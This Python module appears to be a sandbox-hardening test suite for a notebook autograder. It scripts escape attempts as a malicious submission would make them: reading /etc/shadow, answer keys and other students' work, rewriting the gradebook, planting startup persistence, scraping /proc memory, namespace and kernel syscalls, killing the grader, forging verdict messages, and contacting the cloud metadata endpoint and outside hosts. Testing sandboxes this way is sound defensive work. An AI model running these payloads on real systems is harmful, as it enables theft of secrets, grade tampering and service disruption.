"""Reaching what is not the learner's: files, processes, kernel, network. Sections 4.2 and 4.3, and what a sandbox is asked for.

The attacker knows where everything is: the class folder, the grader's home, the address of a listener outside. Whatever works
prints ESCAPED or loot, writes a file named after `attack.HIT`, or is heard by the listener; and pays itself with a right answer.
"""

from pathlib import Path

from graders.content import load_module

_ = load_module(Path(__file__).with_name("attack.py"))
Attack, ALL, RIGHT, FIRST, HIT = _.Attack, _.ALL, _.RIGHT, _.FIRST, _.HIT
code, link = _.code, _.link

_TRY = """
import ctypes, glob, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def pay():
    submit("1.1", case.data["amount"].mean())
def attempt(name, action, proof=lambda result: result is not None and result is not False and result != -1):
    try:
        result = action()
    except Exception as error:
        print(name, type(error).__name__)
    else:
        if proof(result):
            print("ESCAPED", name, repr(result)[:300])
            pay()
        else:
            print(name, "refused")
"""
_READ = """
for path in ("{root}/content/courses/mini/keys/lesson1.py", "{root}/gradebook.db", "{root}/private/truth.json",
             "{root}/submitted/zz-honest/01_mini/01_mini.ipynb", "{home}/.netrc", "{root}/nbgrader_config.py",
             "{root}/release/01_mini/01_mini.ipynb", "/etc/shadow", "/root/.bashrc", "/root/.ssh"):
    attempt(path, lambda: open(path, errors="replace").read(200))
for folder in ("{root}", "{home}", "{root}/submitted", "/home", "/sys/class", "/var/lib"):
    attempt(folder, lambda: os.listdir(folder), proof=bool)
"""
_UPWARDS = """
for up in ("..", "../..", "../../..", "../../../..", "/proc/self/cwd/../..", "/proc/self/root/.." "{root}"):
    for name in ("gradebook.db", "content/courses/mini/keys/lesson1.py", "submitted/zz-honest/01_mini/01_mini.ipynb", "source"):
        attempt(up, lambda: open(f"{up}/{name}", errors="replace").read(200))
found = []
for base, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "usr", "sys", "lib", "share", "site-packages")]
    found += [os.path.join(base, name) for name in names if name in ("lesson1.py", "gradebook.db", "truth.json", ".netrc")]
attempt("walk", lambda: found, proof=bool)
"""
_GRADEBOOK = """
import sqlite3
for path in ("{root}/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    def write():
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as database:
            changed = database.execute("update grade set manual_score = 99, extra_credit = 99").rowcount
            database.execute("update comment set manual_comment = 'situ_was_here'")
            return changed
    attempt(path, write)
"""
_OTHERS_WORK = """
import shutil
for step in ("submitted", "autograded", "feedback", "release", "source", "exchange"):
    for learner in ("zz-honest", "aa-honest", "."):
        folder = f"{{root}}/{step}/{learner}/01_mini".replace("{{root}}", "{root}")
        attempt(folder, lambda: open(f"{folder}/01_mini.ipynb").read())
        attempt(folder, lambda: open(f"{folder}/situ_was_here", "w"))
        if os.path.isdir(folder) and learner == "zz-honest":
            attempt("remove " + folder, lambda: shutil.rmtree(folder) or True)
attempt("cases", lambda: os.listdir("{root}/private/cases"), proof=bool)
"""
_PLANT = """
home = os.path.expanduser("~")
for place in ("{home}", home, "/root", "/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
    for path in (".ipython/profile_default/startup/00_situ_was_here.py", ".jupyter/situ_was_here.py", ".bashrc_situ_was_here",
                 ".local/lib/python3.11/site-packages/usercustomize.py", ".config/matplotlib/situ_was_here", "situ_was_here"):
        try:
            target = os.path.join(place, path)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "a") as stream:
                stream.write("open('/tmp/situ_was_here_startup', 'a').close()  # situ_was_here\\n")
        except OSError as error:
            print(place, type(error).__name__)
"""
_VENV = """
import site, sysconfig
for place in (sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"], os.path.dirname(__import__("graders").__file__),
              os.path.dirname(sys.executable), "/usr/lib", "/usr/local", "/etc", "/"):
    attempt(place, lambda: open(f"{place}/situ_was_here.pth", "a"))
attempt("own library", lambda: open(__import__("graders").__file__, "a"))
attempt("python", lambda: open(os.path.realpath(sys.executable), "r+b"))
"""
_PROC = """
own = {os.getpid()}
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for part in ("environ", "cmdline", "maps"):
        try:
            seen = open(f"/proc/{pid}/{part}", "rb").read()
        except OSError as error:
            continue
        for mark in (b"s3cret-environment", b"nbgrader", b"gradebook", b"{root}", b"pytest"):
            if mark in seen:
                attempt(f"/proc/{pid}/{part}", lambda: mark)
    if int(pid) not in own:
        attempt(f"memory of {pid}", lambda: open(f"/proc/{pid}/mem", "r+b"))
        attempt(f"root of {pid}", lambda: open(f"/proc/{pid}/root{root}/gradebook.db", "rb").read(16))
        def files():
            return b"".join(open(each, "rb").read(16) for each in glob.glob(f"/proc/{pid}/fd/*"))
        attempt(f"files of {pid}", files, proof=lambda seen: b"SQLite" in seen)
for name in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/self/oom_score_adj"):
    attempt(name, lambda: os.write(os.open(name, os.O_WRONLY), b"-1000" if "oom" in name else b"situ_was_here"))
for name in ("/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/proc/1/root/etc/shadow"):
    attempt(name, lambda: open(name, "rb").read(16))
"""
_ENVIRONMENT = """
print(dict(os.environ))
for name in os.environ:
    if "s3cret" in os.environ[name] or "{root}" in os.environ[name]:
        attempt(name, lambda: os.environ[name])
attempt("argv", lambda: [a for a in sys.argv + sys.orig_argv + sys.path if "{root}" in a], proof=bool)
secrets = {b"s3cret-": b"tnemnorivne", b"Keys of the ": b"stset rof kcolb", b"my own work, ": b"s'esle ydobon"}
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        place, rights = line.split()[:2]
        first, last = (int(part, 16) for part in place.split("-"))
        if rights.startswith("rw") and last - first < 100_000_000:
            try:
                memory.seek(first)
                held = memory.read(last - first)
            except OSError:
                continue
            for head, backwards in secrets.items():  # never whole in this cell, or it would find itself
                at = held.find(head)
                while at >= 0:
                    rest = held[at + len(head) : at + len(head) + len(backwards)]
                    attempt("inherited memory", lambda: rest[::-1] == backwards)
                    at = held.find(head, at + 1)
"""
_DESCRIPTORS = """
for number in range(3, 1024):
    try:
        where = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    print(number, where)
    if any(part in where for part in ("{root}", "gradebook", "{home}")):
        attempt(where, lambda: os.pread(number, 100, 0))
"""
_NAMESPACES = """
for name, flag in (("user", 0x10000000), ("mount", 0x20000), ("pid", 0x20000000), ("net", 0x40000000), ("time", 0x80)):
    attempt(f"unshare {name}", lambda: libc.unshare(flag), proof=lambda r: r == 0)
attempt("clone user", lambda: libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0), proof=lambda r: os._exit(0) if r == 0 else r > 0)
asked = ctypes.create_string_buffer(struct.pack("8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0))
attempt("clone3", lambda: libc.syscall(435, ctypes.byref(asked), 64), proof=lambda r: os._exit(0) if r == 0 else r > 0)
for pid in (1, os.getppid()):
    attempt("setns", lambda: libc.setns(os.open(f"/proc/{pid}/ns/mnt", 0), 0), proof=lambda r: r == 0)
attempt("setuid 0", lambda: os.setuid(0) or True)
attempt("setgroups", lambda: os.setgroups([0]) or True)
attempt("chroot", lambda: os.chroot("/proc/1/root") or True)
attempt("sudo", lambda: __import__("subprocess").run(["sudo", "-n", "id"], capture_output=True).stdout, proof=bool)
"""
_MOUNTS = """
for arguments in ((b"none", b"/tmp", b"tmpfs", 0, None), (b"none", b"/usr", b"", 32, None), (b"/", b"/tmp", b"", 4096, None),
                  (b"none", b"/", b"", 32 | 4096, None)):
    attempt("mount", lambda: libc.mount(*arguments), proof=lambda r: r == 0)
for path in (b"/proc", b"/", b"/dev/shm", b"/tmp", os.getcwd().encode(), os.environ["SITU_CASE"].encode()):
    attempt("umount", lambda: libc.umount2(path, 2), proof=lambda r: r == 0)
for number, name in ((428, "open_tree"), (429, "move_mount"), (430, "fsopen"), (432, "fsmount"), (433, "fspick"),
                     (442, "mount_setattr")):
    attempt(name, lambda: libc.syscall(number, -100, b"/", 1, 0, 0), proof=lambda r: r >= 0)
attempt("pivot_root", lambda: libc.syscall(155, b"/tmp", b"/tmp"), proof=lambda r: r == 0)
attempt("mknod", lambda: os.mknod("/tmp/situ_was_here_dev", 0o60600, os.makedev(8, 0)) or os.open("/tmp/situ_was_here_dev", 0))
attempt("write the case", lambda: open(os.environ["SITU_CASE"] + "/case.json", "w"))
"""
_KERNEL = """
attempt("ptrace parent", lambda: libc.ptrace(16, os.getppid(), 0, 0), proof=lambda r: r == 0)
attempt("ptrace 1", lambda: libc.ptrace(16, 1, 0, 0), proof=lambda r: r == 0)
buffer = ctypes.create_string_buffer(256)
for number, name, arguments in (
    (321, "bpf", (0, buffer, 128)), (425, "io_uring_setup", (8, buffer)), (323, "userfaultfd", (0,)),
    (298, "perf_event_open", (buffer, 0, -1, -1, 0)), (447, "memfd_secret", (0,)),
    (248, "add_key", (b"user", b"situ", b"x", 1, -3)), (250, "keyctl", (0, -3, 0)), (249, "request_key", (b"user", b"situ", 0, -3)),
    (310, "process_vm_readv", (1, buffer, 1, buffer, 1, 0)), (304, "open_by_handle_at", (-100, buffer, 0)),
    (312, "kcmp", (1, os.getpid(), 0, 0, 0)), (246, "kexec_load", (0, 0, 0, 0)), (175, "init_module", (buffer, 10, b"")),
    (103, "syslog", (3, buffer, 100)), (169, "reboot", (0, 0, 0)), (170, "sethostname", (b"situ", 4)), (172, "iopl", (3,)),
    (167, "swapon", (b"/tmp", 0)), (227, "clock_settime", (0, buffer)), (29, "shmget", (1234, 4096, 0o1666)),
    (438, "pidfd_getfd", (3, 0, 0)), (163, "acct", (b"/tmp",)), (179, "quotactl", (0, b"", 0, 0)),
):
    attempt(name, lambda: libc.syscall(number, *arguments), proof=lambda r: r >= 0)
attempt("TIOCSTI", lambda: __import__("fcntl").ioctl(0, 0x5412, b"x"))
"""
_NETWORK = """
address, port = "127.0.0.1", {port}
attempt("tcp", lambda: socket.create_connection((address, port), 2).sendall(b"situ_was_here") or True)
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return out.sendto(b"situ_was_here", (address, port))
attempt("udp", udp)
attempt("tcp 6", lambda: socket.create_connection(("::1", port), 2))
attempt("cloud", lambda: socket.create_connection(("169.254.169.254", 80), 2))
attempt("outside", lambda: socket.create_connection(("1.1.1.1", 53), 2))
attempt("dns", lambda: socket.getaddrinfo("example.com", 80))
attempt("dns by hand", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("8.8.8.8", 53)) or True)
attempt("listen", lambda: socket.create_server(("0.0.0.0", 0)))
for family, name in ((40, "vsock"), (16, "netlink"), (17, "packet"), (31, "bluetooth"), (38, "alg"), (44, "xdp"), (29, "can")):
    attempt(name, lambda: socket.socket(family, socket.SOCK_RAW if family in (16, 17, 44) else socket.SOCK_STREAM))
import subprocess
command = ["curl", "-m", "2", f"http://{address}:{port}/situ_was_here"]
attempt("curl", lambda: subprocess.run(command, capture_output=True).stdout, proof=bool)
"""
_UNIX_SOCKETS = """
def connect(name, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as out:
        out.settimeout(2)
        out.connect(name)
        out.sendall(b"situ_was_here")
        return True
attempt("abstract", lambda: connect("\\0{abstract}"))
attempt("by path", lambda: connect("{socket}"))
for name in [name for place in ("/tmp", "/run", "/var/run") for name in glob.glob(place + "/**/*", recursive=True)]:
    try:
        if os.stat(name).st_mode & 0o170000 == 0o140000:
            attempt(name, lambda: connect(name))
    except OSError:
        pass
"""
_SIGNALS = """
import signal, time
for pid in sorted({os.getppid(), 1, {grader}} - {0}):
    for number in (0, 15, 9, 19):
        attempt(f"kill {pid} {number}", lambda: os.kill(pid, number) or True, proof=lambda r: pid != 1 and pid != os.getppid())
attempt("killpg", lambda: os.killpg({grader}, 9) or True)
attempt("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open({grader}), 9) or True)
time.sleep(5)  # until the first process of the sandbox, which was told to end, has ended it
"""
_KILL_ALL = """
import os, signal
os.kill(-1, signal.SIGKILL)
"""
_KILL_PARENT = """
import os, signal, time
for pid in (os.getppid(), 1):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGUSR1):
        try:
            os.kill(pid, number)
        except OSError as error:
            print(type(error).__name__)
time.sleep(1)
"""
_WIRES = """
import os, socket, stat
found = []
for number in range(3, 1024):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            found.append(number)
    except OSError:
        pass
def send(data):
    for number in found:
        with socket.socket(fileno=os.dup(number)) as wire:
            try:
                wire.setblocking(False)
                wire.send(data)
            except OSError as error:
                print(number, type(error).__name__)
"""
_GARBAGE = _WIRES + "send(b'\\xff' * 4000)\nsend(b'\\0' * 4000)\nsend(b'{}' * 2000)"
_DEEP_FRAME = _WIRES + "import struct\nbody = b'[' * 200_000\nsend(struct.pack('!I', len(body)) + body)"
_FORGED_FRAMES = (
    _WIRES
    + """
import json, struct
verdict = {"question": "1.1", "state": "right", "points": 2.0}
content = {"data": {"application/vnd.situ.verdict+json": verdict}, "execution_state": "idle", "status": "ok", "name": 5}
for kind in ("ready", "failed", "done", "end", "finished", "reply", "execute_reply", "status", "stream", "display_data", "error"):
    for body in (
        {"kind": kind, "state": "ran", "cell": 0, "outcome": "finished", "content": verdict},
        [kind, verdict],
        {"type": kind, "msg_type": kind, "content": content},
        {"t": kind, "p": None, "c": content},
        {"t": kind, "p": {"msg_id": 0}, "c": {"traceback": 5}},
    ):
        data = json.dumps(body).encode()
        send(struct.pack("!I", len(data)) + data)
"""
)
_HUGE_FRAME = _WIRES + "send(b'\\x7f\\xff\\xff\\xff' + b'x' * 4000)"
_DROPPED = _WIRES + "for number in found:\n    socket.socket(fileno=os.dup(number)).shutdown(socket.SHUT_RDWR)"


def _escape(name, section, technique, tries, source, **more):
    return Attack(
        name,
        section,
        technique,
        tries,
        [code(_TRY + source, "q-1-2")],
        needs_seal=True,
        **more,
    )


def _on_wire(name, technique, tries, source):
    return Attack(
        name,
        "own",
        technique,
        tries,
        [code(source, "q-1-1")],
        RIGHT,
        FIRST,
        "kernel killed",
        "Python itself ended",
        needs_seal=True,
    )


ATTACKS = (
    _escape(
        "reads-by-path",
        "4.2",
        "key, gradebook by absolute path",
        "reads keys, gradebook, others' work, the grader's home",
        _READ,
    ),
    _escape(
        "reads-upwards",
        "4.2",
        "source and others by relative path",
        "climbs out of its folder, and looks everywhere",
        _UPWARDS,
    ),
    _escape("writes-gradebook", "4.3", "gradebook.db by SQL", "gives everybody 99 points", _GRADEBOOK),
    _escape("others-submissions", "4.2", "other submissions", "reads, changes and removes others' work", _OTHERS_WORK),
    _escape("plants-startup", "4.3", "IPython startup, usercustomize", "infects all later submissions", _PLANT),
    _escape("writes-libraries", "own", "libraries and Python itself", "infects all later submissions", _VENV),
    _escape(
        "reads-proc", "own", "/proc of other processes", "reads environment, memory and files of the grader", _PROC
    ),
    _escape(
        "reads-environment",
        "4.2",
        "environment, inherited memory",
        "finds tokens, keys or another's files",
        _ENVIRONMENT.replace("{grader}", "0"),
    ),
    _escape("open-descriptors", "own", "descriptors left open", "finds the gradebook's", _DESCRIPTORS),
    _escape("new-namespaces", "own", "unshare, setns, setuid, chroot", "becomes root, somewhere", _NAMESPACES),
    _escape("mounts", "own", "mount, umount, mknod", "undoes what is read-only or hidden", _MOUNTS),
    _escape("kernel-doors", "own", "ptrace, bpf, io_uring, keyctl …", "attacks the kernel itself", _KERNEL),
    _escape("network", "4.2", "TCP, UDP, DNS, vsock, raw", "sends the questions away, opens a shell", _NETWORK),
    _escape("unix-sockets", "own", "Unix sockets, also abstract", "talks to programs of the machine", _UNIX_SOCKETS),
    _escape(
        "signals-to-grader",
        "own",
        "signals to the grader",
        "ends the grading, or stops it",
        _SIGNALS,
        outcome="kernel killed",
        told="Python itself ended",
    ),
    Attack(
        "kills-parents",
        "own",
        "signals to its parents",
        "leaves the run without a watcher",
        [code(_KILL_PARENT, "q-1-1")],
        RIGHT,
        FIRST,
        "kernel killed",
        "Python itself ended",
        needs_seal=True,
    ),
    Attack(
        "kills-everything",
        "own",
        "kill -1",
        "ends every process it can reach",
        [code(_KILL_ALL, "q-1-1")],
        RIGHT,
        ALL,
        needs_seal=True,
    ),
    _on_wire("wire-garbage", "garbage on the kernel's line", "stops whoever reads it", _GARBAGE),
    _on_wire("wire-deep-json", "deep JSON on the kernel's line", "overflows the reader's stack", _DEEP_FRAME),
    _on_wire("wire-forged", "forged messages on the line", "says that it finished, with a verdict", _FORGED_FRAMES),
    _on_wire("wire-huge", "a frame of 2 GB announced", "makes the reader wait, or take room", _HUGE_FRAME),
    _on_wire("wire-cut", "the line cut", "makes the reader wait for ever", _DROPPED),
)
